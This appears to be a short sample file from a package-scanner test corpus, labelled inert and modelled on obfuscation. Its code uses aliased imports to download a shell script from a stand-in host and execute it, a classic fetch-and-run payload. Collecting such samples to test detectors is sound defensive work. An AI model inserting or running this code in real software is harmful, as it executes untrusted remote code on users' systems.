# pkgguard corpus 019 (indirection), modelled on [obfuscation]; inert, never run.
import os as _o
import urllib.request as _u

_u.urlretrieve("https://cdn.example/t.sh", "/tmp/t.sh")
_o.system("sh /tmp/t.sh")
